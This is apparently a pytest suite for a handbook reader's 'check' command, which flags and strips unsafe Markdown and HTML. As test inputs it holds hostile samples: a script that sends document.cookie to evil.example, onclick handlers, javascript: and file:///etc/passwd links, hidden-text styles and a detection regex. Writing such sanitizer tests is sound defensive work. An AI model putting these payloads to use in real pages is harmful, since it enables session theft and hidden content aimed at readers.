"""The `check` command: each kind of problem in a throwaway handbook gives the right
`file:line: message` and exit code 1; a hostile handbook is reported line by line,
and the reader still shows its sound parts with nothing hostile getting through."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest

from reader.check import check_handbook, format_problems
from reader.cli import main
from reader.handbook import load_handbook
from tests.conftest import WriteHandbook
from tests.support import hostile_chapter_files, write_files

SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"></svg>\n'
SCRIPTS = "the reader never runs scripts"


def run_check(capsys: pytest.CaptureFixture[str], root: Path) -> tuple[int, list[str]]:
    code = main(["--handbook", str(root), "check"])
    return code, capsys.readouterr().out.splitlines()


def chapter(body: str) -> str:
    """A chapter whose body starts on line 3."""
    return f"# A\n\n{body}\n"


NO_FILES = "the reader never opens files outside the handbook"
NO_NETWORK = "is not loaded: the reader never uses the network"
EMBEDDED = "is removed: the reader shows only the handbook"
HIDES = "style attribute hides text; the reader removes styles, so the text will show"
NO_ALT = "picture has no text alternative: describe it between the [ ]"
NOT_ALLOWED = "is not allowed and is removed"

CASES = [
    ("script", "<script>alert(1)</script>", [f"3: script <script> is removed: {SCRIPTS}"]),
    (
        "event-handler",
        '<p onclick="steal()">Hi</p>',
        [f"3: event handler 'onclick' is removed: {SCRIPTS}"],
    ),
    (
        "tag-over-two-lines",
        'Text\n<p\n   onmouseover="x()">Hi</p>',
        [f"4: event handler 'onmouseover' is removed: {SCRIPTS}"],
    ),
    ("iframe", '<iframe src="page.html"></iframe>', [f"3: embedded page <iframe> {EMBEDDED}"]),
    ("object", '<object data="x.swf"></object>', [f"3: embedded object <object> {EMBEDDED}"]),
    ("embed", '<embed src="x.swf">', [f"3: embedded content <embed> {EMBEDDED}"]),
    (
        "style-tag",
        "<style>p { display: none }</style>",
        ["3: style sheet <style> is removed: the reader uses its own styles"],
    ),
    ("hiding-style", '<span style="display: none">secret</span>', [f"3: {HIDES}"]),
    ("zero-font-style", '<span style="font-size:0">secret</span>', [f"3: {HIDES}"]),
    (
        "plain-style",
        '<span style="color: red">red</span>',
        ["3: style attribute is removed: the reader uses its own styles"],
    ),
    (
        "javascript-link",
        "[run](javascript:alert(1))",
        [f"3: 'javascript:' address 'javascript:alert(1)' is removed: {SCRIPTS}"],
    ),
    (
        "encoded-javascript-href",
        '<a href="&#106;avascript:x()">run</a>',
        [f"3: 'javascript:' address 'javascript:x()' is removed: {SCRIPTS}"],
    ),
    (
        "file-link",
        "[file](file:///etc/passwd)",
        [f"3: 'file:' address 'file:///etc/passwd' is removed: {NO_FILES}"],
    ),
    (
        "file-autolink",
        "<file:///etc/passwd>",
        [f"3: 'file:' address 'file:///etc/passwd' is removed: {NO_FILES}"],
    ),
    (
        "remote-picture",
        "![A cell](https://example.org/cell.png)",
        [f"3: remote picture 'https://example.org/cell.png' {NO_NETWORK}"],
    ),
    (
        "remote-html-picture",
        '<img src="http://example.org/x.png" alt="x">',
        [f"3: remote picture 'http://example.org/x.png' {NO_NETWORK}"],
    ),
    (
        "remote-resource",
        '<p><video src="https://example.org/v.mp4"></video></p>',
        [
            f"3: HTML tag <video> {NOT_ALLOWED}",
            f"3: remote 'src' resource 'https://example.org/v.mp4' {NO_NETWORK}",
        ],
    ),
    (
        "data-picture",
        "![A cell](data:image/png;base64,AAAA)",
        ["3: picture address 'data:image/png;base64,AAAA' is not allowed; use a file"],
    ),
    (
        "missing-picture",
        "![A cell](pictures/none.svg)",
        ["3: picture 'pictures/none.svg' not found"],
    ),
    (
        "picture-outside-folder",
        "![A cell](../outside.svg)",
        ["3: picture '../outside.svg' is outside the handbook folder"],
    ),
    ("empty-alt", "![](pictures/p.svg)", [f"3: {NO_ALT}"]),
    ("html-picture-without-alt", '<img src="pictures/p.svg">', [f"3: {NO_ALT}"]),
    ("unknown-tag", "<marquee>Hi</marquee>", [f"3: HTML tag <marquee> {NOT_ALLOWED}"]),
    (
        "form",
        '<form action="x"><input name="q"></form>',
        [f"3: HTML tag <form> {NOT_ALLOWED}", f"3: HTML tag <input> {NOT_ALLOWED}"],
    ),
    ("missing-chapter-file", "See [B](b.md).", ["3: link to missing file 'b.md'"]),
    (
        "link-to-non-chapter",
        "See [B](pictures/p.svg).",
        ["3: link to 'pictures/p.svg', which is not a chapter of this handbook"],
    ),
    (
        "missing-anchor",
        "See [here](#nowhere).",
        ["3: link to missing heading '#nowhere' in chapter 'a'"],
    ),
    ("reference-link", "See [it][ref].\n\n[ref]: gone.md", ["5: link to missing file 'gone.md'"]),
    (
        "attribute-list",
        'Secret\n{: style="display:none" onclick="x()"}',
        [f"4: event handler 'onclick' is removed: {SCRIPTS}", f"4: {HIDES}"],
    ),
    (
        "long-line",
        "word " * 3000,
        ["3: very long line (15,000 characters): break it into paragraphs"],
    ),
]


@pytest.mark.parametrize(("body", "expected"), [pytest.param(*c[1:], id=c[0]) for c in CASES])
def test_problem_is_reported_with_file_and_line(
    write_handbook: WriteHandbook,
    capsys: pytest.CaptureFixture[str],
    body: str,
    expected: list[str],
) -> None:
    root = write_handbook({"a.md": chapter(body), "pictures/p.svg": SVG})
    code, lines = run_check(capsys, root)
    noun = "problem" if len(expected) == 1 else "problems"
    found = [f"a.md:{line}" for line in expected]
    assert (code, lines) == (1, [*found, f"{len(expected)} {noun} found"])


def test_clean_handbook_exits_zero_with_its_title(
    write_handbook: WriteHandbook, capsys: pytest.CaptureFixture[str]
) -> None:
    root = write_handbook(
        {
            "a.md": "# A\n\nSee [B](b.md#part), [web](https://example.org) and "
            '[mail](mailto:team@example.org).\n\n![A cell](pictures/p.svg "Figure 1.")\n',
            "b.md": "# B\n\n## Part\n\nBack to [A](a.md) and [here](#part).\n",
            "pictures/p.svg": SVG,
        }
    )
    assert run_check(capsys, root) == (0, ["No problems found in A"])


def test_code_blocks_spans_and_comments_are_not_scanned(
    write_handbook: WriteHandbook, capsys: pytest.CaptureFixture[str]
) -> None:
    body = (
        "```html\n<script>alert(1)</script>\n[x](javascript:y)\n```\n\n"
        "~~~\n<iframe src='x'></iframe>\n~~~\n\n"
        'Write `<span style="display:none">` or ``<img src="http://x">`` as code.\n\n'
        "<!-- <script>a comment</script> -->\n"
    )
    root = write_handbook({"a.md": chapter(body)})
    assert run_check(capsys, root) == (0, ["No problems found in A"])


def test_script_content_is_reported_once(
    write_handbook: WriteHandbook, capsys: pytest.CaptureFixture[str]
) -> None:
    body = "<script>\ndocument.write('<img src=x onerror=alert(1)>')\n</script>\n\nAfter."
    root = write_handbook({"a.md": chapter(body)})
    code, lines = run_check(capsys, root)
    assert (code, lines) == (
        1,
        [f"a.md:3: script <script> is removed: {SCRIPTS}", "1 problem found"],
    )


def test_missing_manifest_chapter_is_reported_on_its_manifest_line(
    write_handbook: WriteHandbook, capsys: pytest.CaptureFixture[str]
) -> None:
    manifest = 'title = "T"\nchapters = [\n  "chapters/a.md",\n  "chapters/gone.md",\n]\n'
    root = write_handbook({"chapters/a.md": "# A\n\nText.\n"}, manifest=manifest)
    code, lines = run_check(capsys, root)
    message = "chapter 'chapters/gone.md' is listed in handbook.toml but the file is missing"
    assert (code, lines) == (1, [f"handbook.toml:4: {message}", "1 problem found"])


def test_chapter_file_left_out_of_the_manifest_is_reported(
    write_handbook: WriteHandbook, capsys: pytest.CaptureFixture[str]
) -> None:
    manifest = 'title = "T"\nchapters = ["chapters/a.md"]\nstart = "a/nowhere"\n'
    root = write_handbook(
        {"chapters/a.md": "# A\n\nText.\n", "chapters/draft.md": "# Draft\n"}, manifest=manifest
    )
    code, lines = run_check(capsys, root)
    assert code == 1
    assert lines == [
        "chapters/draft.md:1: chapter file is not listed in handbook.toml, so nobody will see it",
        "handbook.toml:3: start section 'a/nowhere' does not exist",
        "2 problems found",
    ]


def test_loader_problems_are_reported(
    write_handbook: WriteHandbook, capsys: pytest.CaptureFixture[str]
) -> None:
    root = write_handbook(
        {
            "a.md": "# A\n\n## Same\n\nOne.\n\n## Same\n\nTwo.\n",
            "b.md": "",
            "c.md": b"# C\n\ncaf\xe9\n",
            "d.md": "No title here.\n",
        }
    )
    code, lines = run_check(capsys, root)
    assert code == 1
    assert lines == [
        "a.md:7: duplicate section id 'a/same'",
        "b.md:1: chapter file is empty",
        "c.md:3: text is not valid UTF-8; bad bytes were replaced",
        "d.md:1: chapter has no '# Title' heading",
        "4 problems found",
    ]


def test_bad_manifest_is_reported_with_its_line(
    write_handbook: WriteHandbook, capsys: pytest.CaptureFixture[str]
) -> None:
    root = write_handbook({"a.md": "# A\n\nText.\n"}, manifest='title = "T"\nchapters = [\n')
    code, lines = run_check(capsys, root)
    assert code == 1
    assert len(lines) == 2
    assert lines[0].startswith("handbook.toml:2: manifest is not valid TOML")


def test_glossary_problems_are_reported(
    write_handbook: WriteHandbook, capsys: pytest.CaptureFixture[str]
) -> None:
    glossary = (
        '[[terms]]\nterm = "Vector"\ndefinition = "A carrier."\n\n'
        '[[terms]]\nterm = "Vector"\ndefinition = "Again."\n\n'
        '[[terms]]\nterm = "Episome"\ndefinition = "A <b onclick=\\"x()\\">ring</b>."\n'
        'see_also = ["Plasmid"]\n'
    )
    root = write_handbook(
        {"a.md": "# A\n\nA vector carries the gene.\n", "glossary.toml": glossary}
    )
    code, lines = run_check(capsys, root)
    assert code == 1
    assert lines == [
        "glossary.toml:5: glossary term 'Vector' is defined twice",
        "glossary.toml:9: 'Episome' refers to unknown term 'Plasmid'",
        f"glossary.toml:9: event handler 'onclick' is removed: {SCRIPTS}",
        "glossary.toml:9: glossary term 'Episome' is not used in any section",
        "4 problems found",
    ]


def test_problems_are_sorted_by_file_then_line_without_duplicates(
    write_handbook: WriteHandbook,
) -> None:
    root = write_handbook(
        {
            "b.md": "# B\n\n[x](#gone) [x](#gone)\n\n<script></script>\n",
            "a.md": "# A\n\n\n\n\n\n\n\n\n\n[y](c.md)\n\n[z](#gone)\n",
        }
    )
    handbook = load_handbook(root)
    found = [(p.path.name, p.line) for p in check_handbook(handbook)]
    assert found == [("a.md", 11), ("a.md", 13), ("b.md", 3), ("b.md", 5)]


def test_files_are_shown_relative_to_a_relative_handbook_folder(
    write_handbook: WriteHandbook, monkeypatch: pytest.MonkeyPatch
) -> None:
    manifest = 'title = "T"\nchapters = ["chapters/a.md"]\n'
    root = write_handbook({"chapters/a.md": "# A\n\n[x](#gone)\n"}, manifest=manifest)
    monkeypatch.chdir(root.parent)
    handbook = load_handbook(Path(root.name))
    lines = format_problems(check_handbook(handbook), handbook.root)
    assert lines == ["chapters/a.md:3: link to missing heading '#gone' in chapter 'a'"]


def test_check_of_a_missing_folder_exits_2_with_one_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code = main(["--handbook", str(tmp_path / "nowhere"), "check"])
    captured = capsys.readouterr()
    assert code == 2
    assert captured.err.count("\n") == 1
    assert "No handbook folder" in captured.err


# --- a hostile handbook -----------------------------------------------------------

HOSTILE_BAD = """# Bad

<script>fetch("https://evil.example/?c=" + document.cookie)</script>

<p onclick="steal()">Click me</p>

<iframe src="https://evil.example/"></iframe>

[run](javascript:alert(1)) and [read](file:///etc/passwd)

![tracker](https://evil.example/pixel.png)

<span style="display:none">hidden text</span>

<style>body { visibility: hidden }</style>

[gone](gone.md) and [nowhere](good.md#nope)

## Safe part

This part is fine and should still show.
"""
HOSTILE_EXPECTED = [
    ("chapters/bad.md", 3, "<script>"),
    ("chapters/bad.md", 5, "'onclick'"),
    ("chapters/bad.md", 7, "<iframe>"),
    ("chapters/bad.md", 9, "'javascript:'"),
    ("chapters/bad.md", 9, "'file:'"),
    ("chapters/bad.md", 11, "remote picture"),
    ("chapters/bad.md", 13, "hides text"),
    ("chapters/bad.md", 15, "<style>"),
    ("chapters/bad.md", 17, "missing file 'gone.md'"),
    ("chapters/bad.md", 17, "missing heading '#nope'"),
    ("chapters/empty.md", 1, "empty"),
    ("chapters/latin1.md", 3, "not valid UTF-8"),
    ("chapters/long.md", 3, "very long line (1,050,000 characters)"),
    ("chapters/deep.md", 23, "lists nested more than 20 levels deep"),
    ("chapters/deep.md", 504, "quotes nested 500 levels deep"),
    ("chapters/heads.md", 5 + 4 * 2999, "missing heading '#heading-3000'"),
    ("handbook.toml", 5, "'chapters/gone.md' is listed"),
]
FORBIDDEN = re.compile(r"<script|<iframe|<style|\son\w+=|javascript:|file:|style=|https://evil")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("hostile")
    chapters = ["good", "bad", "empty", "latin1", "long", "deep", "heads", "gone"]
    listed = ", ".join(f'"chapters/{name}.md"' for name in chapters)
    manifest = f'title = "Hostile"\nglossary = "glossary.toml"\n\n\nchapters = [{listed}]\n'
    (root / "handbook.toml").write_text(manifest)
    (root / "glossary.toml").write_text('[[terms]]\nterm = "Chapter"\ndefinition = "A part."\n')
    files: dict[str, str | bytes] = {
        "good.md": "# Good\n\nA sound chapter. See [the safe part](bad.md#safe-part).\n",
        "bad.md": HOSTILE_BAD,
        **hostile_chapter_files(3000),
    }
    write_files(root / "chapters", files)
    return root


def test_hostile_handbook_reports_each_problem_with_file_and_line(
    hostile: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, lines = run_check(capsys, hostile)
    assert code == 1
    for file, line, fragment in HOSTILE_EXPECTED:
        prefix = f"{file}:{line}: "
        assert any(x.startswith(prefix) and fragment in x for x in lines), (prefix, fragment)
    assert lines[-1] == f"{len(lines) - 1} problems found"


def test_hostile_handbook_still_lists_its_sound_chapters(
    hostile: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["--handbook", str(hostile), "toc", "--json"]) == 0
    toc = json.loads(capsys.readouterr().out)
    chapters = {c["id"]: c for c in toc["chapters"]}
    assert {"good", "bad", "latin1", "long", "deep", "heads"} <= set(chapters)
    assert len(chapters["heads"]["sections"]) == 3000
    assert chapters["bad"]["sections"] == [
        {"id": "bad/safe-part", "title": "Safe part", "level": 2}
    ]


@pytest.mark.parametrize("section_id", ["bad", "bad/safe-part", "latin1", "deep", "good"])
def test_hostile_handbook_shows_sound_parts_and_nothing_hostile(
    hostile: Path, capsys: pytest.CaptureFixture[str], section_id: str
) -> None:
    assert main(["--handbook", str(hostile), "show", section_id, "--format", "html"]) == 0
    output = capsys.readouterr().out
    assert not FORBIDDEN.search(output)
    expected = {
        "bad": "Click me",
        "bad/safe-part": "should still show",
        "latin1": "caf\ufffd au lait",
        "deep": "a deep quote",
        "good": 'href="section:bad/safe-part"',
    }[section_id]
    assert expected in output
